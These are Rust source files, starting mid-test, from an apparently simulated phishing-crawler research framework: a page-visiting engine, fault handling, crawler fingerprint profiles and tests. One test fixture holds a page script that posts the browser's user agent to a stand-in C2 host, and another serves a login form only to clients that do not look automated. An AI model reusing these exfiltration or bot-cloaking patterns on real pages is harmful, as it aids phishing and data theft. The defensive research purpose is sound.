            delivered_at: SimTime::from_ymd(2024, 5, 2),
            auth_pass: true,
            extracted: vec![ExtractedResource {
                url: "https://x.example/t".into(),
                source: ExtractionSource::BodyText,
            }],
            visits: vec![empty_visit("https://x.example/t")],
            body_bytes: 321,
            blank_line_run: 2,
            class: MessageClass::ActivePhish,
            error: None,
            artifacts: Vec::new(),
        };
        let mut buf = Vec::new();
        write_jsonl(&mut buf, std::slice::from_ref(&record)).unwrap();
        let back = read_jsonl(std::io::BufReader::new(&buf[..])).unwrap();
        assert_eq!(back.len(), 1);
        assert_eq!(back[0].message_id, 7);
        assert_eq!(back[0].class, MessageClass::ActivePhish);
        assert_eq!(back[0].extracted, record.extracted);
    }

    #[test]
    fn legacy_logs_without_fault_fields_still_deserialize() {
        let v = empty_visit("https://a.example/");
        let mut json = serde_json::to_value(&v).unwrap();
        let obj = json.as_object_mut().unwrap();
        obj.remove("attempts");
        obj.remove("elapsed");
        obj.remove("error");
        let back: VisitLog = serde_json::from_value(json).unwrap();
        assert!(back.attempts.is_empty());
        assert_eq!(back.elapsed, SimDuration::ZERO);
        assert!(back.error.is_none());
    }

    #[test]
    fn scan_stats_serialize_and_display() {
        let stats = ScanStats {
            messages: 4,
            steals: 1,
            enrich_hits: 2,
            ..Default::default()
        };
        let json = serde_json::to_string(&stats).unwrap();
        assert!(json.contains("\"steals\":1"), "{json}");
        let back: ScanStats = serde_json::from_str(&json).unwrap();
        assert_eq!(back, stats);
        let shown = stats.to_string();
        assert!(shown.contains("steals 1"), "{shown}");
    }

    #[test]
    fn legacy_stats_without_streaming_gauges_still_deserialize() {
        let stats = ScanStats {
            messages: 9,
            peak_in_flight: 5,
            ..Default::default()
        };
        let mut json = serde_json::to_value(stats).unwrap();
        let obj = json.as_object_mut().unwrap();
        obj.remove("peak_in_flight");
        obj.remove("peak_reorder");
        obj.remove("peak_bytes_retained");
        let back: ScanStats = serde_json::from_value(json).unwrap();
        assert_eq!(back.messages, 9);
        assert_eq!(back.peak_in_flight, 0);
        assert_eq!(back.peak_reorder, 0);
        assert_eq!(back.peak_bytes_retained, 0);
    }

    #[test]
    fn cache_hit_rate_aggregates_all_caches() {
        let stats = ScanStats {
            enrich_hits: 3,
            enrich_misses: 1,
            artifact_hits: 2,
            artifact_misses: 1,
            screenshot_hits: 1,
            screenshot_misses: 0,
            ..Default::default()
        };
        let rate = stats.cache_hit_rate();
        assert!((rate - 6.0 / 8.0).abs() < 1e-12, "{rate}");
        assert_eq!(ScanStats::default().cache_hit_rate(), 0.0);
    }

    #[test]
    fn jsonl_rejects_garbage() {
        assert!(read_jsonl(std::io::BufReader::new(&b"not json\n"[..])).is_err());
    }
}
