//! The page-visiting engine.
//!
//! A [`Browser`] drives one crawler profile against the simulated internet:
//! request → parse → execute inline scripts → follow redirects (HTTP 3xx,
//! `location.href`, meta-refresh within the patience budget) → load
//! subresources → screenshot. The [`Visit`] record is CrawlerBox's raw
//! material: the paper logs "the visited domains, their associated TLS
//! certificates, corresponding IP addresses, as well as the requests and
//! responses exchanged with the browser" (§IV-C).

use crate::fingerprint::{BrowserFingerprint, ATTESTATION_HEADER};
use crate::hostimpl::{resolve_url, PageHost};
use crate::profiles::CrawlerProfile;
use cb_artifacts::Bitmap;
use cb_netsim::{FaultKind, HttpRequest, Internet, IpClass, Url, FAULT_HEADER, LATENCY_HEADER};
use cb_script::Script;
use cb_sim::SimDuration;
use cb_web::{render, Document};
use serde::{Deserialize, Serialize};

/// Screenshot dimensions (the fixed viewport of the crawler).
pub const VIEWPORT: (usize, usize) = (480, 320);

/// Redirect-hop ceiling.
pub const MAX_HOPS: usize = 8;

/// Default per-visit simulated-time budget. Generous on purpose: under the
/// bounded-fault model a supervised visit always recovers well within it,
/// so [`VisitOutcome::Timeout`] signals genuinely pathological latency.
pub const DEFAULT_VISIT_BUDGET: SimDuration = SimDuration::minutes(30);

/// How a visit ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum VisitOutcome {
    /// A page loaded and was screenshotted.
    Loaded,
    /// DNS failure / dead host (the §V "error pages" class).
    Unreachable,
    /// The server answered with an HTTP error.
    HttpError(u16),
    /// Redirects exceeded [`MAX_HOPS`].
    RedirectLoop,
    /// The final page demands interaction the crawler cannot perform
    /// (traditional CAPTCHA, document viewers — the §V 4.5% class).
    InteractionRequired,
    /// The final page triggered a file download instead of rendering.
    Download,
    /// The visit's simulated-time budget was exhausted by fault latency.
    Timeout,
    /// A transport-level transient fault ended the visit (no HTTP response).
    NetError(FaultKind),
    /// The response body was cut short of its declared `Content-Length`.
    Truncated,
}

/// The full record of one crawl.
#[derive(Debug)]
pub struct Visit {
    /// What the pipeline asked for.
    pub requested_url: Url,
    /// `(url, status)` for every navigation hop, in order.
    pub chain: Vec<(Url, u16)>,
    /// Final status code.
    pub status: u16,
    /// The final parsed document (when HTML loaded).
    pub document: Option<Document>,
    /// Screenshot of the final page.
    pub screenshot: Option<Bitmap>,
    /// Console output from page scripts.
    pub console: Vec<String>,
    /// `document.write` payloads.
    pub writes: Vec<String>,
    /// `(url, status)` of subresource loads (images, scripts, frames) —
    /// where the §V-A hotlinking observation lives.
    pub subresources: Vec<(Url, u16)>,
    /// `(url, body, status)` of script-initiated fetches (C2 exfiltration).
    pub exfil: Vec<(String, String, u16)>,
    /// Scripts hijacked a console method.
    pub console_hijacked: bool,
    /// `debugger;` statements executed.
    pub debugger_hits: usize,
    /// Timer delays scripts requested (ms).
    pub timer_delays: Vec<f64>,
    /// How it ended.
    pub outcome: VisitOutcome,
    /// Simulated time the visit consumed (fault stalls and declared
    /// first-byte latency; the reliable path costs zero).
    pub elapsed: SimDuration,
    /// Structured provenance of every transient fault observed during the
    /// visit — navigation hops, subresources and script fetches. Non-empty
    /// means the visit saw adversity (even if it recovered) and a
    /// supervisor should consider retrying.
    pub transient_failures: Vec<String>,
    /// `Retry-After` from a 429/503 final response, in seconds.
    pub retry_after: Option<u32>,
}

impl Visit {
    /// The URL of the final hop (requested URL when nothing loaded).
    pub fn final_url(&self) -> &Url {
        self.chain.last().map(|(u, _)| u).unwrap_or(&self.requested_url)
    }

    /// `true` when the final document shows a credential form.
    pub fn shows_login_form(&self) -> bool {
        self.document
            .as_ref()
            .map(|d| d.has_password_field())
            .unwrap_or(false)
    }
}

/// A browser bound to one crawler profile.
#[derive(Debug, Clone)]
pub struct Browser {
    profile: CrawlerProfile,
    fingerprint: BrowserFingerprint,
    /// Longest meta-refresh delay (seconds) the crawler waits out. The
    /// paper: "some security crawlers do not wait enough time before the
    /// page is reloaded with malicious content".
    patience_secs: u32,
}

impl Browser {
    /// A browser for `profile` with that profile's own wait budget
    /// ([`CrawlerProfile::patience_secs`]).
    pub fn new(profile: CrawlerProfile) -> Browser {
        Browser {
            profile,
            fingerprint: profile.fingerprint(),
            patience_secs: profile.patience_secs(),
        }
    }

    /// Override the wait budget (naive crawlers time out quickly; patient
    /// adaptive arms wait out long delayed reveals).
    pub fn with_patience(mut self, secs: u32) -> Browser {
        self.patience_secs = secs;
        self
    }

    /// The current wait budget in seconds.
    pub fn patience_secs(&self) -> u32 {
        self.patience_secs
    }

    /// Replace the presented fingerprint wholesale. This is the adaptive
    /// crawler's mutation point: an arm starts from a profile's fingerprint
    /// and swaps one axis (UA family, IP egress class) before visiting.
    pub fn with_fingerprint(mut self, fingerprint: BrowserFingerprint) -> Browser {
        self.fingerprint = fingerprint;
        self
    }

    /// The driving profile.
    pub fn profile(&self) -> CrawlerProfile {
        self.profile
    }

    /// The presented fingerprint.
    pub fn fingerprint(&self) -> &BrowserFingerprint {
        &self.fingerprint
    }

    fn build_request(&self, url: &Url, attempt: u32) -> HttpRequest {
        let target = url.to_string();
        let mut req = HttpRequest::get(&target);
        req.set_header("Host", &url.host);
        req.set_header("User-Agent", &self.fingerprint.user_agent);
        req.set_header(
            "Accept-Language",
            &format!("{},en;q=0.9", self.fingerprint.language),
        );
        if self.fingerprint.cache_header_anomaly {
            // The interception artifact: Cache-Control + Pragma on every
            // request (what made early NotABot identifiable).
            req.set_header("Cache-Control", "no-cache");
            req.set_header("Pragma", "no-cache");
        }
        req.set_header(
            ATTESTATION_HEADER,
            &self.fingerprint.attestation().to_header_value(),
        );
        // Deterministic egress address: a pure function of (class, target,
        // attempt). Servers that echo the client address (httpbin-style
        // exfil beacons) then see the same bytes no matter how many
        // requests other scans issued first — which is what keeps
        // work-stealing batch scans bit-identical to serial ones.
        req.client_ip = self.fingerprint.ip_class.egress_ip(&target, attempt);
        req.attempt = attempt;
        req.tls = self.fingerprint.tls;
        req
    }

    /// Visit `url` on `net`, following redirects and executing scripts.
    /// Equivalent to [`Browser::visit_attempt`] with attempt 0 and the
    /// default budget.
    ///
    /// # Panics
    ///
    /// Panics if `url` is not a valid absolute URL.
    pub fn visit(&self, net: &Internet, url: &str) -> Visit {
        self.visit_attempt(net, url, 0, DEFAULT_VISIT_BUDGET)
    }

    /// Visit `url` as retry number `attempt` under a simulated-time
    /// `budget`. The attempt index is stamped on every request the visit
    /// makes (navigation, subresources, script fetches), which is how the
    /// deterministic fault injector knows a flaky URL has been retried
    /// enough to recover.
    ///
    /// # Panics
    ///
    /// Panics if `url` is not a valid absolute URL.
    pub fn visit_attempt(
        &self,
        net: &Internet,
        url: &str,
        attempt: u32,
        budget: SimDuration,
    ) -> Visit {
        cb_telemetry::with_active(|t| {
            t.begin(
                "browser.visit",
                vec![("url", url.to_string()), ("attempt", attempt.to_string())],
            );
        });
        let visit = self.visit_attempt_inner(net, url, attempt, budget);
        cb_telemetry::with_active(|t| {
            t.instant(
                "browser.result",
                vec![
                    ("outcome", format!("{:?}", visit.outcome)),
                    ("status", visit.status.to_string()),
                    ("hops", visit.chain.len().to_string()),
                    ("faults", visit.transient_failures.len().to_string()),
                ],
            );
            // The visit's sim-time cost moves the scan-local clock: every
            // event after this one happens at least `elapsed` later.
            t.advance(visit.elapsed.as_seconds());
            t.end();
        });
        visit
    }

    /// The uninstrumented engine behind [`Browser::visit_attempt`].
    fn visit_attempt_inner(
        &self,
        net: &Internet,
        url: &str,
        attempt: u32,
        budget: SimDuration,
    ) -> Visit {
        let requested = Url::parse(url).expect("visit requires a valid absolute url");
        let mut visit = Visit {
            requested_url: requested.clone(),
            chain: Vec::new(),
            status: 0,
            document: None,
            screenshot: None,
            console: Vec::new(),
            writes: Vec::new(),
            subresources: Vec::new(),
            exfil: Vec::new(),
            console_hijacked: false,
            debugger_hits: 0,
            timer_delays: Vec::new(),
            outcome: VisitOutcome::Unreachable,
            elapsed: SimDuration::ZERO,
            transient_failures: Vec::new(),
            retry_after: None,
        };

        let mut current = requested;
        for _hop in 0..MAX_HOPS {
            let nav_req = self.build_request(&current, attempt);
            let resp = match net.try_request(nav_req) {
                Ok(resp) => resp,
                Err(err) => {
                    visit.elapsed = visit.elapsed + err.latency;
                    visit.chain.push((current.clone(), 0));
                    visit.status = 0;
                    visit.transient_failures.push(format!("nav {current}: {err}"));
                    visit.outcome = if visit.elapsed > budget {
                        VisitOutcome::Timeout
                    } else {
                        VisitOutcome::NetError(err.kind)
                    };
                    return visit;
                }
            };
            if let Some(secs) = resp
                .header(LATENCY_HEADER)
                .and_then(|v| v.parse::<i64>().ok())
            {
                visit.elapsed = visit.elapsed + SimDuration::seconds(secs);
            }
            if let Some(kind) = resp.header(FAULT_HEADER) {
                visit.transient_failures.push(format!("nav {current}: {kind}"));
            }
            visit.chain.push((current.clone(), resp.status));
            visit.status = resp.status;

            if resp.status == 0 {
                visit.outcome = VisitOutcome::Unreachable;
                return visit;
            }
            if resp.is_redirect() {
                // is_redirect() guarantees a Location header; a bare 3xx
                // without one falls through to the HttpError arm below
                // rather than being invented as a redirect to "/".
                let location = resp.header("Location").expect("is_redirect checked");
                let target = resolve_url(&current, location);
                match Url::parse(&target) {
                    Ok(u) => {
                        current = u;
                        continue;
                    }
                    Err(_) => {
                        visit.outcome = VisitOutcome::HttpError(resp.status);
                        return visit;
                    }
                }
            }
            if !(200..300).contains(&resp.status) {
                visit.retry_after = resp.header("Retry-After").and_then(|v| v.parse().ok());
                visit.outcome = VisitOutcome::HttpError(resp.status);
                return visit;
            }
            if let Some(declared) = resp
                .header("Content-Length")
                .and_then(|v| v.parse::<usize>().ok())
            {
                if declared > resp.body.len() {
                    visit
                        .transient_failures
                        .push(format!("nav {current}: body truncated at {}/{declared}", resp.body.len()));
                    visit.outcome = VisitOutcome::Truncated;
                    return visit;
                }
            }

            let content_type = resp.header("Content-Type").unwrap_or("text/html");
            if !content_type.starts_with("text/html") {
                visit.outcome = VisitOutcome::Download;
                return visit;
            }

            // Parse and execute.
            let html = resp.body_text();
            let doc = Document::parse(&html);
            let mut host = PageHost::new(net, &self.fingerprint, current.clone());
            host.attempt = attempt;
            for src in doc.inline_scripts() {
                if let Ok(script) = Script::parse(&src) {
                    // Script errors abort that script only, like a browser.
                    let _ = cb_script::run(&script, &mut host);
                }
            }
            visit.console.extend(host.console.clone());
            visit.writes.extend(host.writes.clone());
            visit.console_hijacked |= host.console_hijacked;
            visit.debugger_hits += host.debugger_hits;
            visit.timer_delays.extend(host.timer_delays.clone());
            visit
                .exfil
                .extend(host.fetches.iter().cloned());
            visit
                .transient_failures
                .extend(host.transient_failures.iter().cloned());
            visit.elapsed = visit.elapsed + host.fault_latency;

            // Script-driven navigation wins over meta refresh.
            if let Some(nav) = host.navigations.first() {
                let target = resolve_url(&current, nav);
                if let Ok(u) = Url::parse(&target) {
                    current = u;
                    continue;
                }
            }
            if let Some((delay, target)) = meta_refresh(&doc) {
                if delay <= self.patience_secs {
                    let target = resolve_url(&current, &target);
                    if let Ok(u) = Url::parse(&target) {
                        current = u;
                        continue;
                    }
                }
                // not patient enough: the pre-reveal page is what we see
            }

            // Final page: subresources, interaction check, screenshot.
            // Subresource requests carry the page as Referer — the signal
            // the paper recommends impersonated organizations monitor to
            // detect lookalikes hotlinking their assets (§V-A).
            for res in doc.resource_urls() {
                let target = resolve_url(&current, &res);
                if let Ok(u) = Url::parse(&target) {
                    let mut req = self.build_request(&u, attempt);
                    req.set_header("Referer", &current.to_string());
                    match net.try_request(req) {
                        Ok(resp) => {
                            if let Some(kind) = resp.header(FAULT_HEADER) {
                                visit
                                    .transient_failures
                                    .push(format!("subresource {u}: {kind}"));
                            }
                            visit.subresources.push((u, resp.status));
                        }
                        Err(err) => {
                            // A failed subresource never aborts the page;
                            // the note above lets a supervisor retry the
                            // whole visit for a clean capture.
                            visit.elapsed = visit.elapsed + err.latency;
                            visit
                                .transient_failures
                                .push(format!("subresource {u}: {err}"));
                            visit.subresources.push((u, 0));
                        }
                    }
                }
            }
            let interactive = doc
                .walk()
                .iter()
                .any(|n| n.attr("data-requires-interaction").is_some());
            visit.outcome = if interactive {
                VisitOutcome::InteractionRequired
            } else {
                VisitOutcome::Loaded
            };
            // document.write output becomes part of the rendered page.
            let rendered_doc = if host.writes.is_empty() {
                doc.clone()
            } else {
                let mut augmented = html.clone();
                for w in &host.writes {
                    augmented.push_str(&format!("<p>{w}</p>"));
                }
                Document::parse(&augmented)
            };
            visit.screenshot = Some(render::rasterize(&rendered_doc, VIEWPORT.0, VIEWPORT.1));
            visit.document = Some(doc);
            return visit;
        }
        visit.outcome = VisitOutcome::RedirectLoop;
        visit
    }
}

/// An egress address of the given class, freshly allocated from `net`'s
/// address space. Visits no longer use this (they present deterministic
/// per-request addresses via [`IpClass::egress_ip`], so concurrent scans
/// stay bit-identical to serial ones); it remains for callers that want an
/// allocation-ordered address.
pub fn ip_for_class(net: &Internet, class: IpClass) -> cb_netsim::IpAddress {
    net.allocate_ip(class)
}

/// Parse `<meta http-equiv=refresh content="N; url=...">` including the
/// delay (the client-side "bot behavior" delay cloaking of §III-B).
pub fn meta_refresh(doc: &Document) -> Option<(u32, String)> {
    for n in doc.elements("meta") {
        let is_refresh = n
            .attr("http-equiv")
            .map(|v| v.eq_ignore_ascii_case("refresh"))
            .unwrap_or(false);
        if !is_refresh {
            continue;
        }
        // A url-less refresh (plain reload, "content=\"300\"") must not end
        // the search: later tags may carry the real redirect.
        let Some(content) = n.attr("content") else {
            continue;
        };
        let (delay_part, rest) = content.split_once(';').unwrap_or((content, ""));
        let delay: u32 = delay_part.trim().parse().unwrap_or(0);
        let lower = rest.to_ascii_lowercase();
        if let Some(i) = lower.find("url=") {
            return Some((delay, rest[i + 4..].trim().to_string()));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_netsim::{HttpResponse, NetContext, SiteHandler};
    use cb_sim::SimTime;

    fn net_with(domain: &str, handler: impl SiteHandler + 'static) -> Internet {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain(domain, "REG");
        net.host(domain, handler);
        net
    }

    #[test]
    fn simple_page_loads_with_screenshot() {
        let net = net_with("site.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<html><body><h1>Welcome</h1><p>text</p></body></html>")
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://site.example/");
        assert_eq!(v.outcome, VisitOutcome::Loaded);
        assert_eq!(v.status, 200);
        assert!(v.screenshot.is_some());
        assert_eq!(v.chain.len(), 1);
    }

    #[test]
    fn dead_domain_is_unreachable() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://gone.example/x");
        assert_eq!(v.outcome, VisitOutcome::Unreachable);
        assert_eq!(v.status, 0);
    }

    #[test]
    fn http_redirects_are_followed() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("hop1.example", "REG");
        net.register_domain("hop2.example", "REG");
        net.host("hop1.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::redirect("https://hop2.example/land")
        });
        net.host("hop2.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>landed</p>")
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://hop1.example/");
        assert_eq!(v.outcome, VisitOutcome::Loaded);
        assert_eq!(v.chain.len(), 2);
        assert_eq!(v.final_url().host, "hop2.example");
    }

    #[test]
    fn redirect_loops_are_bounded() {
        let net = net_with("loop.example", |req: &HttpRequest, _: &NetContext<'_>| {
            let n: u32 = req.url.query_param("n").and_then(|v| v.parse().ok()).unwrap_or(0);
            HttpResponse::redirect(&format!("https://loop.example/?n={}", n + 1))
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://loop.example/");
        assert_eq!(v.outcome, VisitOutcome::RedirectLoop);
        assert_eq!(v.chain.len(), MAX_HOPS);
    }

    #[test]
    fn script_navigation_is_followed() {
        let net = net_with("js.example", |req: &HttpRequest, _: &NetContext<'_>| {
            if req.url.path == "/" {
                HttpResponse::html(
                    r#"<script>location.href = "/landing";</script>"#,
                )
            } else {
                HttpResponse::html("<p>final</p>")
            }
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://js.example/");
        assert_eq!(v.outcome, VisitOutcome::Loaded);
        assert_eq!(v.final_url().path, "/landing");
    }

    #[test]
    fn meta_refresh_respects_patience() {
        let net = net_with("delay.example", |req: &HttpRequest, _: &NetContext<'_>| {
            if req.url.path == "/revealed" {
                HttpResponse::html("<p>the real content</p>")
            } else {
                HttpResponse::html(
                    r#"<html><head><meta http-equiv="refresh" content="30; url=/revealed"></head>
                       <body><p>benign placeholder</p></body></html>"#,
                )
            }
        });
        // Patient crawler follows the delayed reveal.
        let patient = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://delay.example/");
        assert_eq!(patient.final_url().path, "/revealed");
        // Impatient crawler sees only the placeholder.
        let hasty = Browser::new(CrawlerProfile::Kangooroo)
            .with_patience(5)
            .visit(&net, "https://delay.example/");
        assert_eq!(hasty.final_url().path, "/");
        assert!(hasty
            .document
            .unwrap()
            .visible_text()
            .contains("benign placeholder"));
    }

    #[test]
    fn subresources_are_fetched_and_logged() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("page.example", "REG");
        net.register_domain("corp.example", "REG");
        net.host("page.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(r#"<img src="https://corp.example/logo.png"><p>login</p>"#)
        });
        net.host("corp.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("image/png", vec![0x89, b'P', b'N', b'G'])
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://page.example/");
        assert_eq!(v.subresources.len(), 1);
        assert_eq!(v.subresources[0].0.host, "corp.example");
        assert_eq!(v.subresources[0].1, 200);
    }

    #[test]
    fn interaction_marker_classifies_visit() {
        let net = net_with("captcha.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(r#"<div data-requires-interaction="captcha">solve me</div>"#)
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://captcha.example/");
        assert_eq!(v.outcome, VisitOutcome::InteractionRequired);
    }

    #[test]
    fn download_outcome_for_non_html() {
        let net = net_with("files.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("application/zip", b"PK\x03\x04".to_vec())
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://files.example/a.zip");
        assert_eq!(v.outcome, VisitOutcome::Download);
    }

    #[test]
    fn server_sees_profile_user_agent_and_attestation() {
        let net = net_with("probe.example", |req: &HttpRequest, _: &NetContext<'_>| {
            let report = crate::fingerprint::ChallengeReport::from_request(req)
                .expect("attestation attached");
            if report.webdriver_visible || req.user_agent().contains("HeadlessChrome") {
                HttpResponse::html("<p>benign</p>")
            } else {
                HttpResponse::html("<form action=/c><input type=password name=p></form>")
            }
        });
        let bot = Browser::new(CrawlerProfile::Kangooroo).visit(&net, "https://probe.example/");
        assert!(!bot.shows_login_form());
        let stealthy = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://probe.example/");
        assert!(stealthy.shows_login_form());
    }

    #[test]
    fn exfil_fetches_are_recorded() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("page.example", "REG");
        net.register_domain("c2.example", "REG");
        net.host("page.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(
                r#"<script>fetch("https://c2.example/collect", navigator.userAgent);</script><p>x</p>"#,
            )
        });
        net.host("c2.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("text/plain", b"ok".to_vec())
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://page.example/");
        assert_eq!(v.exfil.len(), 1);
        assert!(v.exfil[0].1.contains("Chrome"));
    }

    #[test]
    fn transport_fault_yields_net_error_with_provenance() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = net_with("flaky.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>fine</p>")
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "flaky.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::ConnectionReset],
                ..Default::default()
            },
        ));
        let b = Browser::new(CrawlerProfile::NotABot);
        let v = b.visit_attempt(&net, "https://flaky.example/", 0, DEFAULT_VISIT_BUDGET);
        assert_eq!(
            v.outcome,
            VisitOutcome::NetError(cb_netsim::FaultKind::ConnectionReset)
        );
        assert_eq!(v.status, 0);
        assert!(!v.transient_failures.is_empty());
        assert!(v.elapsed > cb_sim::SimDuration::ZERO);
        // A late-enough retry recovers the page exactly.
        let v = b.visit_attempt(&net, "https://flaky.example/", 4, DEFAULT_VISIT_BUDGET);
        assert_eq!(v.outcome, VisitOutcome::Loaded);
        assert!(v.transient_failures.is_empty());
    }

    #[test]
    fn truncated_body_is_its_own_outcome() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = net_with("cut.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>whole</p>")
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "cut.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::TruncatedBody],
                ..Default::default()
            },
        ));
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://cut.example/");
        assert_eq!(v.outcome, VisitOutcome::Truncated);
        assert!(v
            .transient_failures
            .iter()
            .any(|n| n.contains("truncated")));
    }

    #[test]
    fn slow_first_byte_exhausts_a_small_budget() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = net_with("slow.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>late</p>")
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "slow.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::SlowFirstByte],
                ..Default::default()
            },
        ));
        let v = Browser::new(CrawlerProfile::NotABot).visit_attempt(
            &net,
            "https://slow.example/",
            0,
            cb_sim::SimDuration::seconds(3),
        );
        assert_eq!(v.outcome, VisitOutcome::Timeout);
    }

    #[test]
    fn rate_limit_surfaces_retry_after() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = net_with("busy.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html("<p>open</p>")
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "busy.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::RateLimited],
                ..Default::default()
            },
        ));
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://busy.example/");
        assert_eq!(v.outcome, VisitOutcome::HttpError(429));
        assert_eq!(v.retry_after, Some(5));
        assert!(!v.transient_failures.is_empty());
    }

    #[test]
    fn recovered_subresource_fault_is_noted_not_fatal() {
        use cb_netsim::{FaultPlan, FaultProfile};
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("page.example", "REG");
        net.register_domain("cdn.example", "REG");
        net.host("page.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::html(r#"<img src="https://cdn.example/a.png"><p>x</p>"#)
        });
        net.host("cdn.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse::ok("image/png", vec![1])
        });
        net.set_fault_plan(FaultPlan::uniform(9, 0.0).with_host(
            "cdn.example",
            FaultProfile {
                rate: 1.0,
                kinds: vec![cb_netsim::FaultKind::DnsTimeout],
                ..Default::default()
            },
        ));
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://page.example/");
        assert_eq!(v.outcome, VisitOutcome::Loaded, "page itself still loads");
        assert_eq!(v.subresources[0].1, 0);
        assert!(
            v.transient_failures.iter().any(|n| n.contains("subresource")),
            "supervisor sees the evidence: {:?}",
            v.transient_failures
        );
    }

    #[test]
    fn meta_refresh_parser() {
        let doc = Document::parse(
            r#"<meta http-equiv="Refresh" content="7; URL=https://next.example/p">"#,
        );
        assert_eq!(
            meta_refresh(&doc),
            Some((7, "https://next.example/p".to_string()))
        );
        assert_eq!(meta_refresh(&Document::parse("<p>n</p>")), None);
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;
    use cb_netsim::{HttpResponse, NetContext};
    use cb_sim::SimTime;

    #[test]
    fn url_less_meta_refresh_does_not_mask_the_real_one() {
        let doc = Document::parse(
            r#"<meta http-equiv="refresh" content="300">
               <meta http-equiv="refresh" content="0; url=/revealed">"#,
        );
        assert_eq!(meta_refresh(&doc), Some((0, "/revealed".to_string())));
    }

    #[test]
    fn redirect_without_location_is_an_http_error_not_a_root_visit() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("bare301.example", "REG");
        net.host("bare301.example", |_: &HttpRequest, _: &NetContext<'_>| {
            HttpResponse {
                status: 301,
                headers: Vec::new(),
                body: Vec::new(),
            }
        });
        let v = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://bare301.example/x");
        assert_eq!(v.outcome, VisitOutcome::HttpError(301));
        assert_eq!(v.chain.len(), 1, "no invented hop to /");
    }
}
