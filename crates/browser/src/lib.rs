#![warn(missing_docs)]

//! Browsers and crawlers: the fingerprint surface bot detection probes, the
//! eight crawler profiles of the paper's Table I, and the page-visiting
//! engine CrawlerBox drives.
//!
//! The centrepiece is [`profiles`]: each open-source crawler the paper
//! benchmarked (Kangooroo, Lacus, Puppeteer + stealth, Selenium + stealth,
//! undetected_chromedriver, Nodriver, Selenium-Driverless) plus **NotABot**
//! is encoded by its documented tells — `navigator.webdriver` visibility,
//! `HeadlessChrome` UA markers, chromedriver `cdc_` artifacts, CDP
//! `Runtime.enable` leakage, the request-interception `Cache-Control` /
//! `Pragma` anomaly the paper discovered, TLS stack, event `isTrusted`,
//! synthetic mouse movement, and egress IP class.
//!
//! [`Browser`] executes visits against the [`cb_netsim::Internet`]: it
//! issues requests (attaching the truthful client attestation that
//! challenge scripts would measure — see `DESIGN.md` §4), parses HTML, runs
//! inline MJS with a faithful host environment, follows redirects, loads
//! subresources, and screenshots the final page.

pub mod engine;
pub mod fingerprint;
pub mod hostimpl;
pub mod profiles;

pub use engine::{Browser, Visit, VisitOutcome, DEFAULT_VISIT_BUDGET};
pub use fingerprint::{BrowserFingerprint, ChallengeReport};
pub use profiles::CrawlerProfile;
