//! The eight crawler profiles of Table I, each encoded by its documented
//! tells, plus ablation knobs for NotABot.

use crate::fingerprint::BrowserFingerprint;
use cb_netsim::{IpClass, TlsFingerprint};
use serde::{Deserialize, Serialize};
use std::fmt;

/// A crawler configuration the paper benchmarked (Table I), or a NotABot
/// ablation variant.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum CrawlerProfile {
    /// Canadian Centre for Cyber Security's Java crawling utility: drives
    /// headless Chrome naively — automation flag, headless UA, non-browser
    /// header set.
